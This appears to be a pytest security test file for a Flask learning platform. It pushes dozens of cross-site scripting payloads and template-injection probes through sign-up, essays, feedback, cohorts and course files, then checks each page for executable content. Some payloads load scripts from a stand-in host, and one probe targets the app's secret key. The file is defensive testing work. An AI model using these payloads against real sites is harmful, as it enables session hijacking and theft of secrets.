"""Cross-site scripting: every place a person types text, every page that shows it.

`PAYLOADS` (script tags, event handlers, `javascript:`/`data:`/`vbscript:` URLs with
entities, case and whitespace tricks, SVG, broken markup, attribute breakouts, CSS,
<iframe srcdoc>, <meta refresh>, template syntax, Markdown link and image tricks) go
through names (sign-up and profile), essays, grader feedback and revision notes, cohort
names, invite codes, live session titles and locations, bulk-enrol lines, search boxes and
a course file (lesson bodies and titles, quiz descriptions, prompts, choices, feedback,
rubrics). Each page that shows them, learner and instructor side, is parsed and
`assert_nothing_executable` holds: no <script> but the LMS's own files, no `on*`
attribute, no script-bearing URL, no frame, object, embed, base or meta refresh, and
template syntax shown as typed (never evaluated).

Payloads are batched: one essay or feedback holds them all, one lesson holds a group.
The checker is also used by tests/security/test_cve_regressions.py.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
import yaml
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner

from lms.certificates.service import issue_certificate
from lms.cohorts.service import create_cohort
from lms.database import session, utcnow
from lms.learning.enrolment import join_cohort
from lms.models import Attempt, Cohort, Course, Enrolment, LiveSession, Module, Profile
from tests.cohorts import conftest as cohort_fixtures
from tests.conftest import PASSWORD, Users, confirm_link, csrf_token, post_form
from tests.learning.conftest import make_cohort
from tests.quizzes.conftest import keys, sign_in

# -- payloads ------------------------------------------------------------------------------------

#: Template syntax between markers: if any engine evaluated it, "tpl-a49tpl-b" would show.
TEMPLATE_PROBES = {
    "tpl-a{{7*7}}tpl-b": "tpl-a49tpl-b",
    "tpl-c${7*7}tpl-d": "tpl-c49tpl-d",
    "tpl-e#{7*7}tpl-f": "tpl-e49tpl-f",
    "tpl-g<%= 7*7 %>tpl-h": "tpl-g49tpl-h",
    "tpl-i{{ 7*'7' }}tpl-j": "tpl-i7777777tpl-j",
    "tpl-k{% raw %}{{7*7}}{% endraw %}tpl-l": "tpl-k{{7*7}}tpl-l",
    "tpl-m{% for x in range(3) %}z{% endfor %}tpl-n": "tpl-mzzztpl-n",
}

PAYLOADS: list[str] = [
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>/* unclosed",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "'\"><script>alert(1)</script>",
    "<script type=module>import('//evil.example/m.js')</script>",
    "<<script>alert(1)//<</script>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)">hover</div>',
    "<a onclick=alert(1)>click</a>",
    # javascript:, vbscript: and data: URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="  javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">go</button>',
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    # SVG and MathML
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1) /><a><text>x</text></a></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # broken and nested markup
    '<img src="x" onerror="alert(1)"',
    "<a href='x' onmouseover='alert(1)'",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<div><p><img src=x onerror=alert(1)></div",
    # attribute breakouts
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    # style
    '<div style="width: expression(alert(1))">x</div>',
    "<style>@import 'javascript:alert(1)';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    # frames, meta, base, link
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    # template syntax (never evaluated: shown as typed)
    "{{7*7}}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "${7*7}",
    *TEMPLATE_PROBES,
    # Markdown links and images
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1)  )",
    "[click](&#106;avascript:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java\tscript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![img](javascript:alert(1))",
    '![img](x "title" onerror="alert(1)")',
    "![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "<javascript:alert(1)>",
    "[ref][evil]\n\n[evil]: javascript:alert(1)",
    "`<script>alert(1)</script>`",
    # control characters (typed forms refuse some; essays keep them as text)
    "<scr\x00ipt>alert(1)</script>",
    '<a href="java\x01script:alert(1)">x</a>',
]

#: What a course file can carry (YAML and PostgreSQL text hold no NUL or C0 controls).
COURSE_PAYLOADS = [p for p in PAYLOADS if not re.search(r"[\x00-\x08\x0b-\x1f]", p)]

#: Plain text fields show these literally (they are escaped, never evaluated).
LITERALS = ["<script>alert(1)</script>", "{{7*7}}"]

assert len(PAYLOADS) >= 50

fast_passwords = cohort_fixtures.fast_passwords  # a fixture: cheap hashes for many accounts
pytestmark = pytest.mark.usefixtures("fast_passwords")


def groups(items: list[str], size: int) -> list[list[str]]:
    return [items[start : start + size] for start in range(0, len(items), size)]


# -- the checker ---------------------------------------------------------------------------------

URL_ATTRIBUTES = frozenset(
    {
        "href",
        "src",
        "action",
        "formaction",
        "xlink:href",
        "data",
        "poster",
        "background",
        "lowsrc",
        "dynsrc",
        "ping",
        "codebase",
        "cite",
        "longdesc",
        "manifest",
        "srcset",
        "to",
        "values",
        "from",
        "by",
    }
)
BAD_SCHEMES = ("javascript:", "data:", "vbscript:")
FORBIDDEN_TAGS = frozenset(
    {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
)
#: Tags the LMS never writes itself: if one comes back, markup got through.
FOREIGN_TAGS = frozenset({"svg", "math", "style", "animate", "set", "xml", "isindex", "noscript"})
BAD_STYLE = re.compile(r"expression\s*\(|url\s*\(|javascript:|behavior\s*:|-moz-binding", re.I)
CONTROL_OR_SPACE = re.compile(r"[\x00-\x20\x7f-\x9f]+")
OWN_SCRIPT = re.compile(r"/static/lms/[a-z_-]+\.js")
#: The LMS's own stylesheet and icon (nothing from elsewhere).
OWN_STYLESHEET = re.compile(r"/static/lms/[a-z_-]+\.(css|svg)")


def own_icon(tag: str, values: dict[str, str]) -> bool:
    """The LMS's own inline icon (the padlock of a locked item): an <svg> with the class
    lms-icon, hidden from screen readers (its text alternative is beside it). Any event
    handler on it is still reported below."""
    return (
        tag == "svg" and values.get("class") == "lms-icon" and values.get("aria-hidden") == "true"
    )


def url_scheme_is_bad(value: str) -> bool:
    """As a browser reads it: whitespace and control characters dropped, any case."""
    return CONTROL_OR_SPACE.sub("", value).lower().startswith(BAD_SCHEMES)


class ExecutableFinder(HTMLParser):
    """Parses a page (entities decoded, as a browser does) and notes anything executable."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []
        self.text: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        tag = tag.lower()
        values = {name.lower(): value or "" for name, value in attrs}
        shown = f"<{tag} {' '.join(f'{k}={v!r}' for k, v in values.items())}>"[:200]
        if tag == "script":
            self._in_script = True
            if not OWN_SCRIPT.fullmatch(values.get("src", "")):
                self.problems.append(f"a script that is not the LMS's own: {shown}")
        if tag in FORBIDDEN_TAGS or (tag in FOREIGN_TAGS and not own_icon(tag, values)):
            self.problems.append(f"a <{tag}> element: {shown}")
        if tag == "meta" and "http-equiv" in values:
            self.problems.append(f"a <meta http-equiv>: {shown}")
        if tag == "link" and not OWN_STYLESHEET.fullmatch(values.get("href", "")):
            self.problems.append(f"a <link> to elsewhere: {shown}")
        for name, value in values.items():
            if name.startswith("on"):
                self.problems.append(f"an event handler attribute {name}: {shown}")
            elif name in URL_ATTRIBUTES and url_scheme_is_bad(value):
                self.problems.append(f"a script-bearing URL in {name}: {shown}")
            elif name == "srcdoc":
                self.problems.append(f"a srcdoc attribute: {shown}")
            elif name == "style" and BAD_STYLE.search(value):
                self.problems.append(f"a style that can run or load something: {shown}")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag.lower() == "script":
            self._in_script = False

    def handle_endtag(self, tag: str) -> None:
        if tag.lower() == "script":
            self._in_script = False

    def handle_data(self, data: str) -> None:
        if self._in_script and data.strip():
            self.problems.append(f"inline script: {data[:80]!r}")
        self.text.append(data)


@dataclass
class Page:
    where: str
    status: int
    html: str
    problems: list[str] = field(default_factory=list)
    text: str = ""


def inspect(where: str, response: Any) -> Page:
    html = response.get_data(as_text=True)
    finder = ExecutableFinder()
    finder.feed(html)
    finder.close()
    page = Page(where, response.status_code, html, finder.problems, "".join(finder.text))
    if response.status_code >= 500:
        page.problems.append(f"server error {response.status_code}")
    for typed, evaluated in TEMPLATE_PROBES.items():
        if evaluated in html:
            page.problems.append(f"template syntax was evaluated: {typed!r} became {evaluated!r}")
    if "test-secret" in html:
        page.problems.append("the secret key is on the page ({{ config }} was evaluated)")
    return page


def assert_nothing_executable(where: str, response: Any, *, shows: tuple[str, ...] = ()) -> Page:
    """Nothing executable on the page; `shows`: text the page must show (as text), which
    proves the typed payloads did reach it."""
    page = inspect(where, response)
    missing = [text for text in shows if text not in page.text]
    assert not page.problems and not missing, (where, page.problems, missing)
    return page


CSRF_META = re.compile(r'<meta name="csrf-token" content="([^"]+)"')


class Checker:
    """Collects problems over many pages and reports them all at once.

    It remembers each client's CSRF token from the pages it gets (a sign-in or sign-up
    starts a new session, and the page after it carries the new token).
    """

    def __init__(self) -> None:
        self.problems: list[str] = []
        self.pages = 0
        self.tokens: dict[FlaskClient, str] = {}

    def check(
        self, client: FlaskClient, where: str, response: Any, shows: tuple[str, ...] = ()
    ) -> Page:
        page = inspect(where, response)
        self.pages += 1
        token = CSRF_META.search(page.html)
        if token:
            self.tokens[client] = token[1]
        for text in shows:
            if text not in page.text:
                page.problems.append(f"does not show {text!r} (did the payload reach it?)")
        self.problems += [f"{where} [{page.status}]: {problem}" for problem in page.problems]
        return page

    def get(self, client: FlaskClient, url: str, *, shows: tuple[str, ...] = (), **kw: Any) -> Page:
        return self.check(client, f"GET {url}", client.get(url, **kw), shows)

    def post(
        self, client: FlaskClient, url: str, data: dict[str, Any], *, shows: tuple[str, ...] = (),
        **kw: Any,
    ) -> Page:  # fmt: skip
        if client not in self.tokens:
            self.tokens[client] = csrf_token(client)
        response = client.post(url, data={"csrf_token": self.tokens[client], **data}, **kw)
        return self.check(client, f"POST {url}", response, shows)

    def done(self) -> None:
        assert not self.problems, f"{len(self.problems)} problems:\n" + "\n".join(self.problems)


def test_the_checker_finds_what_it_looks_for() -> None:
    """The checker itself: each of these raw pages is caught, escaped text is not."""

    class Raw:
        status_code = 200

        def __init__(self, html: str) -> None:
            self.html = html

        def get_data(self, as_text: bool = True) -> str:
            return self.html

    caught = [
        "<script>alert(1)</script>",
        '<script src="/static/lms/quiz.js">alert(1)</script>',
        "<img src=x onerror=alert(1)>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href=" JaVaScRiPt:alert(1)">x</a>',
        '<a href="data:text/html,x">x</a>',
        '<form action="vbscript:x">',
        '<button formaction="javascript:x">',
        '<iframe srcdoc="x">',
        '<meta http-equiv="refresh" content="0">',
        '<base href="//evil.example/">',
        "<svg><animate onbegin=alert(1)>",
        '<div style="width: expression(alert(1))">',
        "tpl-a49tpl-b",
        "test-secret",
    ]
    for html in caught:
        assert inspect("raw", Raw(html)).problems, html
    escaped = "".join(
        f"<p>{p.replace('&', '&amp;').replace('<', '&lt;').replace('>', '&gt;')}</p>"
        for p in PAYLOADS
    )
    own = '<script src="/static/lms/quiz.js" defer></script><meta name="csrf-token" content="x">'
    assert inspect("escaped", Raw(own + escaped)).problems == []
    assert "<script>alert(1)</script>" in inspect("escaped", Raw(escaped)).text


# -- a course file full of payloads --------------------------------------------------------------

COURSE_SLUG = "payload-course"
#: Starts every Markdown text of the course, so a page shows that its Markdown arrived.
MARKDOWN_MARKER = "Markdown starts here {{7*7}}"


def front_matter(meta: dict[str, Any], body: str) -> str:
    return f"---\n{yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)}---\n\n{body}\n"


def write_payload_course(root: Path) -> list[str]:
    """A cohort course whose every author-written text carries payloads; its lesson slugs."""
    course_dir = root / COURSE_SLUG
    module = course_dir / "m1"
    module.mkdir(parents=True)
    batches = groups(COURSE_PAYLOADS, 10)
    # The marker comes first: an unclosed <script> or <style> hides what follows it.
    markdown = "\n\n".join([MARKDOWN_MARKER, *COURSE_PAYLOADS])
    course = {
        "slug": COURSE_SLUG,
        "title": "Payload course " + COURSE_PAYLOADS[0],
        "track": "cohort",
        "audience": batches[1][0],  # titles and the like hold up to 200 characters
        "summary": " ".join(batches[2]),
        "description": markdown,
        "estimated_hours": 1,
        "ce_hours": 0,
        "disclaimer": " ".join(batches[3]),
        "sources": ["Source " + p for p in batches[4]],
        "modules": ["m1"],
    }
    (course_dir / "course.yml").write_text(yaml.safe_dump(course, allow_unicode=True))
    lessons = []
    for number, batch in enumerate(batches):
        slug = f"lesson-{number}"
        meta = {
            "title": f"Lesson {number} {batch[0]}",
            "slug": slug,
            "minutes": 5,
            "objectives": batch,
        }
        body = "\n\n".join([MARKDOWN_MARKER, *batch])
        (module / f"{slug}.md").write_text(front_matter(meta, body))
        lessons.append(slug)
    live = {"title": "Live " + batches[0][0], "slug": "live", "minutes": 5, "kind": "live-session"}
    (module / "live.md").write_text(front_matter(live | {"objectives": ["Meet."]}, "Talk."))
    questions: list[dict[str, Any]] = []
    for number, batch in enumerate(batches):
        questions.append(
            {
                "slug": f"single-{number}",
                "type": "single" if number % 2 == 0 else "multiple",
                "prompt": " ".join(batch),
                "choices": [
                    {"text": text, "correct": index == 0, "feedback": text}
                    for index, text in enumerate(batch)
                ]
                if len(batch) > 1
                else [{"text": batch[0], "correct": True}, {"text": "plain"}],
                "feedback": " ".join(batch),
                "source": "Source " + batches[4][0],
            }
        )
    questions += [
        {
            "slug": "truth",
            "type": "true_false",
            "prompt": " ".join(batches[0]),
            "answer": True,
            "feedback": " ".join(batches[1]),
            "source": "Source " + batches[4][0],
        },
        {
            "slug": "words",
            "type": "short_answer",
            "prompt": " ".join(batches[2]),
            "accepted": batches[3],
            "feedback": " ".join(batches[3]),
            "source": "Source " + batches[4][0],
        },
        {
            "slug": "number",
            "type": "numeric",
            "prompt": " ".join(batches[4]),
            "answer": 7,
            "feedback": " ".join(batches[5]),
            "source": "Source " + batches[4][0],
        },
        {
            "slug": "essay",
            "type": "essay",
            "prompt": " ".join(batches[5]),
            "rubric": [
                {"criterion": text, "points": 2, "description": text} for text in batches[6][:3]
            ],
            "feedback": " ".join(batches[6]),
            "source": "Source " + batches[4][0],
        },
    ]
    quiz = {
        "slug": "payload-quiz",
        "title": "Quiz " + batches[1][0],
        "description": markdown,
        "pass_mark": 0,
        "review": {"results": True, "feedback": True, "correct_answers": "after_submit"},
        "questions": questions,
    }
    (module / "quiz.quiz.yml").write_text(yaml.safe_dump(quiz, allow_unicode=True))
    items = [f"{slug}.md" for slug in lessons] + ["live.md", "quiz.quiz.yml"]
    module_file = {"slug": "m1", "title": "Module " + batches[2][0], "week": 1, "items": items}
    (module / "module.yml").write_text(yaml.safe_dump(module_file, allow_unicode=True))
    return lessons


def sync_payload_course(runner: FlaskCliRunner, root: Path) -> list[str]:
    lessons = write_payload_course(root)
    result = runner.invoke(args=["lms", "courses", "sync", str(root / COURSE_SLUG)])
    assert result.exit_code == 0, result.output
    return lessons


def new_client(app: Flask, email: str) -> FlaskClient:
    client = app.test_client()
    sign_in(client, email)
    return client


def profile_id(email: str) -> int:
    found = session.scalar(sa.select(Profile.id).where(Profile.email == email))
    assert found is not None, email
    return found


# -- course Markdown, quizzes, essays, feedback --------------------------------------------------


def test_course_files_essays_and_feedback_show_nothing_executable(
    app: Flask, users: Users, runner: FlaskCliRunner, tmp_path: Path
) -> None:
    lessons = sync_payload_course(runner, tmp_path)
    users.create("admin@example.com", role="admin", name="Ada Admin")
    users.create("iris@example.com", role="instructor", name="Iris Instructor")
    users.create("ana@example.com", name="Ana Learner")
    with app.app_context():
        course = session.scalar(sa.select(Course).where(Course.slug == COURSE_SLUG))
        assert course is not None
        cohort = create_cohort(
            course,
            "Payload cohort",
            utcnow().date(),
            instructors=[session.get(Profile, profile_id("iris@example.com"))],
        )
        ana = session.get(Profile, profile_id("ana@example.com"))
        assert ana is not None
        enrolment = join_cohort(ana, cohort)
        session.commit()
        cohort_id, enrolment_id = cohort.id, enrolment.id
    ana_client = new_client(app, "ana@example.com")
    iris = new_client(app, "iris@example.com")
    admin = new_client(app, "admin@example.com")
    check = Checker()
    home = f"/courses/{COURSE_SLUG}/"

    # The learner reads the course.
    check.get(app.test_client(), "/")
    check.get(app.test_client(), home, shows=(MARKDOWN_MARKER,))
    check.get(ana_client, "/", shows=("Payload course",))
    check.get(ana_client, home)
    for slug in [*lessons, "live"]:
        shows = (MARKDOWN_MARKER,) if slug != "live" else ()
        check.get(ana_client, f"{home}lessons/{slug}", shows=shows)
    quiz_url = f"{home}quizzes/payload-quiz"
    check.get(ana_client, quiz_url, shows=(MARKDOWN_MARKER,))

    # ... takes the quiz: every payload in the essay, payloads in the text answers.
    started = post_form(ana_client, f"{quiz_url}/attempts", {}, token_from=quiz_url)
    assert started.status_code == 302, started.get_data(as_text=True)
    attempt_id = int(started.headers["Location"].rsplit("/", 1)[1])
    attempt_url = f"/attempts/{attempt_id}"
    check.get(ana_client, attempt_url, shows=tuple(LITERALS))
    questions = keys(app, attempt_id)
    essay = "\n".join(PAYLOADS)
    autosave = ana_client.post(
        f"{attempt_url}/answers",
        json={"answers": {questions["essay"].key: essay, questions["words"].key: PAYLOADS[0]}},
        headers={"X-CSRFToken": csrf_token(ana_client)},
    )
    assert autosave.status_code == 200, autosave.get_data(as_text=True)
    assert autosave.mimetype == "application/json"
    assert autosave.headers["X-Content-Type-Options"] == "nosniff"
    answers: dict[str, Any] = {
        questions["essay"].field: essay,
        questions["words"].field: PAYLOADS[5],
        questions["truth"].field: "true",
        questions["number"].field: PAYLOADS[9],  # not a number: the page shows it again
    }
    for question in questions.values():
        if question.choices:
            answers[question.field] = [str(next(iter(question.choices.values())))]
    check.post(ana_client, f"{attempt_url}/answers", answers, shows=LITERALS[:1])
    answers[questions["number"].field] = "7"
    check.post(ana_client, f"{attempt_url}/submit", answers)
    submitted = post_form(ana_client, f"{attempt_url}/submit", {"confirm": "yes"})
    assert submitted.status_code == 302, submitted.get_data(as_text=True)
    review_url = f"{attempt_url}/review"
    check.get(ana_client, review_url, shows=tuple(LITERALS))

    # The instructor grades: every payload in the feedback, then in a revision note.
    with app.app_context():
        attempt = session.get(Attempt, attempt_id)
        assert attempt is not None
        essay_answer = next(a for a in attempt.answers if a.question_version.type.value == "essay")
        answer_id = essay_answer.id
        criteria = [f"criterion-{c.id}" for c in essay_answer.question_version.rubric]
    grade_url = f"/teach/grading/answers/{answer_id}"
    check.get(iris, "/teach/grading", shows=("Payload cohort",))
    screen = check.get(iris, grade_url, shows=tuple(LITERALS))
    version = re.search(r'name="version" value="(\d+)"', screen.html)
    assert version, screen.html
    feedback = "\n".join(PAYLOADS)
    grade = dict.fromkeys(criteria, "1") | {"feedback": feedback, "version": version[1]}
    bad = check.post(iris, grade_url, grade | {criteria[0]: PAYLOADS[5]}, shows=LITERALS)
    assert bad.status == 400
    done = post_form(iris, grade_url, grade | {"action": "release"})
    assert done.status_code == 302, done.get_data(as_text=True)
    check.get(iris, grade_url, shows=tuple(LITERALS))
    check.get(ana_client, review_url, shows=tuple(LITERALS))
    check.get(ana_client, "/dashboard", shows=tuple(LITERALS))
    check.get(ana_client, "/notifications")
    note = {"note": "\n".join(PAYLOADS)}
    returned = post_form(iris, f"{grade_url}/return", note)
    assert returned.status_code == 302, returned.get_data(as_text=True)
    check.get(iris, grade_url, shows=tuple(LITERALS))
    check.get(ana_client, review_url, shows=tuple(LITERALS))
    resubmit_url = f"{attempt_url}/answers/{answer_id}/resubmit"
    check.post(ana_client, resubmit_url, {"response": essay})
    check.get(iris, grade_url, shows=tuple(LITERALS))

    # Records, statistics and the roster, instructor and admin side.
    for client in (iris, admin):
        for url in (
            f"/teach/cohorts/{cohort_id}",
            f"/teach/cohorts/{cohort_id}/calendar",
            f"/teach/cohorts/{cohort_id}/roster",
            f"/teach/cohorts/{cohort_id}/people",
            f"/teach/cohorts/{cohort_id}/people/{enrolment_id}",
            f"/teach/cohorts/{cohort_id}/gradebook",
            f"/teach/cohorts/{cohort_id}/quizzes/payload-quiz/statistics",
            f"/teach/courses/{COURSE_SLUG}/gradebook",
            f"/teach/courses/{COURSE_SLUG}/quizzes/payload-quiz/statistics",
            f"/teach/learners/{enrolment_id}",
            "/teach/cohorts",
            "/dashboard",
        ):
            check.get(client, url)
    check.get(admin, "/admin/outbox")

    # A certificate's public page names the course.
    with app.app_context():
        found = session.get(Enrolment, enrolment_id)
        assert found is not None
        certificate = issue_certificate(found)
        session.commit()
        code = certificate.code
    check.get(app.test_client(), f"/certificates/{code}", shows=("Payload course",))
    check.get(ana_client, home)
    check.get(ana_client, "/dashboard")
    assert check.pages > 40
    check.done()


# -- names, bulk enrolment, search boxes ---------------------------------------------------------


def test_names_and_pasted_lines_show_nothing_executable(
    app: Flask, users: Users, courses: None
) -> None:
    cohort_id, _code = make_cohort(app, name="Names cohort", capacity=None)
    users.create("admin@example.com", role="admin", name="Ada Admin")
    users.create("iris@example.com", role="instructor", name="Iris Instructor")
    with app.app_context():
        cohort = session.get(Cohort, cohort_id)
        assert cohort is not None
        cohort.instructors.append(session.get(Profile, profile_id("iris@example.com")))
        session.commit()
    admin = new_client(app, "admin@example.com")
    iris = new_client(app, "iris@example.com")
    check = Checker()

    # Each payload is a name twice: typed at sign-up (refused once, so the form shows it
    # again, then accepted), and typed on the profile page by another learner.
    emails = []
    for number, payload in enumerate(PAYLOADS):
        email = f"learner{number}@example.com"
        emails.append(email)
        client = app.test_client()  # each from an address of its own (sign-up throttling)
        client.environ_base["REMOTE_ADDR"] = f"10.5.{number // 200}.{number % 200 + 1}"
        signup = {
            "name": PAYLOADS[(number + 1) % len(PAYLOADS)],
            "email": email,
            "password": PASSWORD,
            "confirm": "not the same password",
            "profession": "nurse",
        }
        check.post(client, "/sign-up", signup)
        page = check.post(client, "/sign-up", signup | {"confirm": PASSWORD})
        if "Check your email" not in page.html:  # refused (too long, blank): plainly
            signup |= {"name": f"Learner {number}", "confirm": PASSWORD}
            page = check.post(client, "/sign-up", signup)
        assert "Check your email" in page.html, page.html
        link = confirm_link(app, email)  # the mailed link: its page, then its button
        check.get(client, link)
        page = check.post(client, link, {}, follow_redirects=True)
        assert "Your account is ready." in page.html, page.html
        profile = {"display_name": payload, "profession": "nurse", "timezone": "UTC"}
        # The profile form (with its long time zone list) shows the name in an attribute:
        # read it back for the payloads that try to break out of one.
        check.post(client, "/profile", profile, follow_redirects=bool(re.search("[\"']", payload)))

    # Staff paste every email, and every payload as a line of its own.
    lines = "\n".join(emails + [p for p in PAYLOADS if "\x00" not in p and "\x01" not in p])
    people = f"/teach/cohorts/{cohort_id}/people"
    check.post(admin, people, {"emails": lines}, shows=("{{7*7}}",))
    check.post(admin, people, {"emails": "\n".join(PAYLOADS)})
    with app.app_context():
        enrolment_id = session.scalar(
            sa.select(Enrolment.id).where(Enrolment.cohort_id == cohort_id)
        )
        live_lesson = session.scalar(sa.select(Module.id).where(Module.slug == "week-one"))
    sessions = f"/teach/cohorts/{cohort_id}/sessions"
    added = post_form(
        iris,
        sessions,
        {
            "title": "Circle",
            "module": str(live_lesson),
            "day": utcnow().date().isoformat(),
            "start": "18:00",
            "duration_minutes": "60",
            "location": "Room 1",
        },
        token_from=sessions,
    )
    assert added.status_code == 302, added.get_data(as_text=True)
    with app.app_context():
        session_id = session.scalar(sa.select(LiveSession.id))
    for client in (admin, iris):
        for url in (
            people,
            f"/teach/cohorts/{cohort_id}/roster",
            f"/teach/cohorts/{cohort_id}/sessions/{session_id}/attendance",
        ):
            check.get(client, url, shows=tuple(LITERALS))
        # The gradebook comes in pages of 50 learners: the names are on one or another.
        gradebook = f"/teach/cohorts/{cohort_id}/gradebook"
        pages = [check.get(client, gradebook, query_string={"page": n}) for n in (1, 2)]
        for literal in LITERALS:
            if not any(literal in page.text for page in pages):
                check.problems.append(f"GET {gradebook}: does not show {literal!r}")
        check.get(client, f"{people}/{enrolment_id}")
    for page_number in (1, 2):
        check.get(admin, f"/admin/users?page={page_number}")
    check.get(admin, "/admin/users?q=script", shows=("<script>alert(1)</script>",))

    # What is typed in a search box or a filter comes back in the page.
    for payload in PAYLOADS:
        check.get(admin, "/admin/users", query_string={"q": payload})
        check.get(iris, "/teach/grading", query_string={"cohort": payload, "quiz": payload})
    check.done()


# -- cohort names, live sessions, invite codes ---------------------------------------------------


def test_cohorts_sessions_and_invite_codes_show_nothing_executable(
    app: Flask, users: Users, courses: None
) -> None:
    users.create("admin@example.com", role="admin", name="Ada Admin")
    users.create("iris@example.com", role="instructor", name="Iris Instructor")
    users.create("ana@example.com", name="Ana Learner")
    users.create("ben@example.com", name="Ben Learner")
    admin = new_client(app, "admin@example.com")
    ana = new_client(app, "ana@example.com")
    ben = new_client(app, "ben@example.com")
    with app.app_context():
        course_id = session.scalar(sa.select(Course.id).where(Course.slug == "co"))
        module_id = session.scalar(sa.select(Module.id).where(Module.slug == "week-one"))
    check = Checker()
    today = utcnow().date().isoformat()

    # A cohort named after each payload (refused ones show the form again, with it); the
    # invite code field shows what was typed too (read back for attribute breakouts).
    new = "/teach/cohorts/new"
    for number, payload in enumerate(PAYLOADS):
        form = {
            "course": str(course_id),
            "name": payload,
            "starts_on": today,
            "timezone": "UTC",
            "capacity": "",
            "is_open": "y",
            "invite_code": f"code-{number:03d}",
        }
        check.post(admin, new, form)
        if re.search("[\"']", payload):
            check.post(admin, new, form | {"name": "Refused", "invite_code": payload})
    with app.app_context():
        cohort_id = session.scalar(sa.select(sa.func.min(Cohort.id)))
        assert session.scalar(sa.select(sa.func.count(Cohort.id))) > len(PAYLOADS) // 2
        iris_id = profile_id("iris@example.com")
    instructors = f"/teach/cohorts/{cohort_id}/instructors"
    assigned = post_form(admin, instructors, {"person": str(iris_id)}, token_from=instructors)
    assert assigned.status_code == 302
    iris = new_client(app, "iris@example.com")
    joined = post_form(ana, f"/courses/co/cohorts/{cohort_id}/join", {}, token_from="/courses/co/")
    assert joined.status_code == 302

    # A live session titled and located after each payload, in the first cohort.
    sessions = f"/teach/cohorts/{cohort_id}/sessions"
    for payload in PAYLOADS:
        form = {
            "title": payload,
            "module": str(module_id),
            "day": today,
            "start": "23:00",
            "duration_minutes": "60",
            "location": payload,
        }
        check.post(iris, sessions, form)
    with app.app_context():
        session_id = session.scalar(sa.select(sa.func.min(LiveSession.id)))
        assert session.scalar(sa.select(sa.func.count(LiveSession.id))) > len(PAYLOADS) // 2

    # Invite codes: whatever is typed comes back in the form.
    for payload in PAYLOADS:
        check.post(ben, "/join", {"code": payload})

    shown = LITERALS[:1]
    for client, url, shows in (
        (admin, "/teach/cohorts", shown),
        (admin, f"/teach/cohorts/{cohort_id}/edit", shown),
        (admin, "/dashboard", ()),
        (iris, "/teach/cohorts", shown),
        (iris, f"/teach/cohorts/{cohort_id}", shown),
        (iris, sessions, shown),
        (iris, f"{sessions}/{session_id}", shown),
        (iris, f"{sessions}/{session_id}/attendance", shown),
        (iris, f"/teach/cohorts/{cohort_id}/roster", shown),
        (iris, "/teach/grading", ()),
        (iris, "/dashboard", ()),
        (ana, "/courses/co/", shown),  # enrolled: the cohort and its live sessions
        (ana, "/courses/co/lessons/live", shown),
        (ana, "/dashboard", ()),
        (ben, "/courses/co/", shown),  # not enrolled: the open cohorts, by name
        (app.test_client(), "/courses/co/", ()),
        (app.test_client(), "/", ()),
    ):
        check.get(client, url, shows=shows)
    check.done()
